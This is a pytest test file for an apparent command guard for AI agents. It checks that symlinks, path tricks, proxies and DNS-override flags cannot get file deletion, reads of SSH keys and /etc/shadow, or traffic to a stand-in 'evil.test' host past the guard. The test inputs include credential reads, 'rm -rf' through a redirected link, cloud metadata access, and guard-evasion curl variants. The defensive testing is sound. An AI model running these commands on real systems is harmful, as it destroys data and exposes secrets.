"""Which files and hosts a command reaches, through links too, by the guards of the settings."""

from __future__ import annotations

import os

import pytest
from installed import decided, shell
from making import own_file

from tables import tables

TABLES = tables(__file__)
HOME = os.path.expanduser("~")


def test_a_symbolic_link_hides_nothing_from_the_shell_guard(place):
    (place / "notes.txt").symlink_to(os.path.join(HOME, ".ssh", "id_rsa"))
    (place / "folder").symlink_to(os.path.join(HOME, ".ssh"))
    for path in ("~/.ssh/id_rsa", "notes.txt", "folder/id_rsa", "./folder/../notes.txt"):
        assert "[secrets-read-key]" in shell(f"cat {path}", cwd=str(place)).reason
    assert shell("rm notes.txt", cwd=str(place)).decision == "proceed"
    assert shell("ls", cwd=str(place)).decision == "proceed"


def test_a_workspace_that_is_reached_by_a_link_is_the_workspace(place, tmp_path):
    own_file(tmp_path / "config", "[guards.shell]\nlevel = 'strict'\n")
    (tmp_path / "link").symlink_to(place)
    folder = str(tmp_path / "link")
    assert shell("echo x > a.txt", cwd=folder, project_dir=folder).decision == "proceed"


def test_a_link_and_what_it_leads_to_are_the_same_workspace(home, tmp_path):
    own_file(tmp_path / "config", "[guards.shell]\nlevel = 'strict'\n")
    place, link = home / "app", home / "link"
    link.symlink_to(place)
    for opened, other in ((place, link), (link, place)):
        fields = {"cwd": str(opened), "project_dir": str(opened)}
        for command in (f"rm -rf {other}/build", f"rm -rf {other}/src/..data", f"echo x > {other}/a.txt"):
            assert (shell(command, **fields).decision, command) == ("proceed", command)
        assert decided("Write", "write", {"file_path": f"{other}/a.txt", "content": ""}, **fields).decision == "proceed"
        assert "[files-delete-project]" in shell(f"rm -rf {other}/*", **fields).reason
        assert "[files-delete-outside]" in shell(f"rm -rf {home}/other/build", **fields).reason
        assert "[files-delete-outside]" in shell(f"rm -rf {other}x/build", **fields).reason
    assert "[files-delete-project]" in shell(f"rm -rf {place}", cwd=str(link), project_dir=str(link)).reason
    assert "[files-delete-outside]" in shell(f"rm -rf {link}", cwd=str(place), project_dir=str(place)).reason


def test_a_link_that_the_command_turns_elsewhere_first_is_no_way_into_the_workspace(home):
    (home / "link").symlink_to(home / "app")
    command = f"ln -sfn / {home}/link && rm -rf {home}/link/home"
    assert "[files-delete-home]" in shell(command, cwd=str(home / "app")).reason


@pytest.fixture
def linked(home):
    """A workspace with links into a home, out to the system, and within itself."""
    place = home / "app"
    leading_out = {"usrlink": "/usr", "data": "/etc", "vl": "/var/lib", "share": "/usr/share"}
    leading_home = {"docs": home / "Documents", "keys": home / ".ssh"}
    for name, target in {**leading_out, **leading_home, "build": place / "out", "readme": place / "text"}.items():
        (place / name).symlink_to(target)
    for folder in (home / "Documents", home / ".ssh", place / "out", place / "text", place / "node_modules" / "a"):
        folder.mkdir(parents=True)
    return place


@pytest.mark.parametrize("command", TABLES["what_a_command_does_through_a_link_is_done_where_it_leads"])
def test_what_a_command_does_through_a_link_is_done_where_it_leads(linked, command):
    assert shell(command, cwd=str(linked), project_dir=str(linked)).decision == "deny"


@pytest.mark.parametrize("command", TABLES["a_link_itself_and_one_to_a_harmless_place_are_left_alone"])
def test_a_link_itself_and_one_to_a_harmless_place_are_left_alone(linked, command):
    found = shell(command, cwd=str(linked), project_dir=str(linked))
    assert (found.decision, found.reason) == ("proceed", found.reason)


def test_what_a_person_is_asked_about_is_asked_behind_a_link(linked):
    for command in ("tar xf x -C usrlink", "tar -xf x.tar --directory=usrlink/", "echo x > usrlink/../etc/fstab"):
        assert "[files-write-system]" in shell(command, cwd=str(linked), project_dir=str(linked)).reason


def test_a_protected_file_is_protected_behind_a_link(linked, home, tmp_path):
    own_file(tmp_path / "config", "[guards.paths]\nprotect = ['~/Documents']\n")
    for command in ("echo x > docs/a.txt", "echo x > data/../a; rm docs/../Documents/a.txt"):
        assert "[path-protected]" in shell(command, cwd=str(linked), project_dir=str(linked)).reason


def test_a_folder_that_is_not_there_has_no_links():
    for command in ("rm -rf build/", "rm -rf src/*/build/", "cat a/../b"):
        assert shell(command, cwd="/home/nobody/app", project_dir="/home/nobody/app").decision == "proceed"


@pytest.mark.parametrize("cwd", ["sub", "./sub", "../app/sub"])
def test_a_relative_working_folder_is_in_that_of_the_process(home, monkeypatch, cwd):
    place = home / "app"
    monkeypatch.chdir(place)
    assert shell("rm -rf build", cwd=cwd).decision == "proceed"
    assert shell("git status > out.txt", cwd=cwd).decision == "proceed"
    assert "whole workspace" in shell("rm -rf ../sub", cwd=cwd).reason
    assert "outside of the workspace" in shell("rm -rf ../other", cwd=cwd).reason
    assert "whole workspace" in shell("rm -rf ..", cwd=cwd).reason
    assert "outside of the workspace" in shell("rm -rf ../other", cwd=str(place / "sub")).reason
    write = {"file_path": "notes.txt", "content": ""}
    assert decided("Write", "write", write, cwd=cwd).decision == "proceed"
    assert "is not in the workspace" in decided("Write", "write", {**write, "file_path": "../x"}, cwd=cwd).reason


def test_protected_files_are_protected_from_commands_too(place, tmp_path):
    own_file(tmp_path / "config", "[guards.paths]\nprotect = ['prod.db', 'data/*.csv']\ndeny_read = ['private']\n")
    fields = {"cwd": str(place), "project_dir": str(place)}
    denied = ("rm prod.db", "echo x > prod.db", "cp a data/x.csv", "cat private/a", "rm -rf data", "mv private b")
    for command in denied:
        assert (shell(command, **fields).decision, command) == ("deny", command)
        assert "[path-protected]" in shell(command, **fields).reason
    for command in ("cat prod.db", "cat data/x.csv", "rm other.db", "rm -rf dat"):
        assert (shell(command, **fields).decision, command) == ("proceed", command)
    assert "[path-protected]" in decided("Write", "write", {"file_path": "prod.db", "content": ""}, **fields).reason
    assert shell("ssh host 'rm /srv/prod.db'", **fields).reason.count("path-protected") == 0


# -- hosts of commands -------------------------------------------------------------------------------------------------


def test_hosts_are_denied_for_tools_and_commands_alike(tmp_path):
    own_file(tmp_path / "config", "[guards.egress]\ndeny = ['*.evil.test']\n")
    assert "[egress-denied]" in shell("wget https://a.evil.test/x").reason
    assert "[egress-denied]" in shell("scp a.txt u@a.evil.test:").reason
    assert "[egress-denied]" in decided("WebFetch", "fetch", {"url": "https://a.evil.test"}).reason
    for command in (
        "curl -x http://p.evil.test:3128 https://good.test/x",
        "https_proxy=p.evil.test:3128 pip download https://good.test/x.whl",
        "curl --resolve good.test:443:a.evil.test https://good.test/x",
        "curl --connect-to ::a.evil.test:443 https://good.test/x",
        "curl 'https://{good.test,a.evil.test}/x'",
        "echo url=https://a.evil.test | curl -K -",
        "ssh -J a.evil.test web1",
        "psql -h a.evil.test shop",
    ):
        assert "[egress-denied]" in shell(command).reason, command
    assert shell("wget https://good.test/x").decision == "proceed"


def test_a_host_that_cannot_be_read_is_asked_about_for_tools_and_commands_alike():
    for url in ("http://[", "http://a b/", "http://example.com%00.example.org/"):
        assert "[egress-unreadable]" in decided("WebFetch", "fetch", {"url": url}).reason
        assert "[egress-unreadable]" in shell(f"curl '{url}'").reason
    for command in ('curl "$API_URL/x"', "curl https://$HOST/health", "curl http://localhost:$PORT/"):
        assert shell(command).decision == "proceed"


def test_a_host_is_seen_without_an_address():
    assert "[egress-metadata]" in decided("mcp__http__get", "mcp", {"host": "169.254.169.254"}).reason


def test_a_file_address_is_read_as_the_file(place):
    assert "[path-secret-read]" in decided("WebFetch", "fetch", {"url": "file:///etc/shadow"}).reason
    assert shell("curl file:///etc/shadow").decision == shell("cat /etc/shadow").decision == "deny"
    assert shell("curl file:///etc/hosts").decision == "proceed"


def test_with_a_list_of_hosts_all_others_are_denied_known_or_not(tmp_path):
    own_file(tmp_path / "config", "[guards.egress]\nothers = 'deny'\nallow = ['*.good.test', '10.0.0.1']\n")
    assert shell("curl https://a.good.test/x").decision == "proceed"
    assert shell("curl https://$NAME.good.test/x").decision == "deny"
    assert shell("curl https://bad.test/x").decision == "deny"
    assert shell("curl $URL").decision == "deny"
    assert decided("WebFetch", "fetch", {"url": "http://10.0.0.1/"}).decision == "proceed"


def test_private_networks_are_left_to_commands_unless_somebody_says_otherwise(tmp_path):
    assert shell("curl http://10.0.0.1/").decision == "proceed"
    own_file(tmp_path / "config", "[guards.egress]\nprivate = 'deny'\n")
    assert shell("curl http://10.0.0.1/").decision == "deny"
    own_file(tmp_path / "config", "[guards.egress]\nlevel = 'strict' # \n")
    assert shell("curl http://10.0.0.1/").decision == "ask"
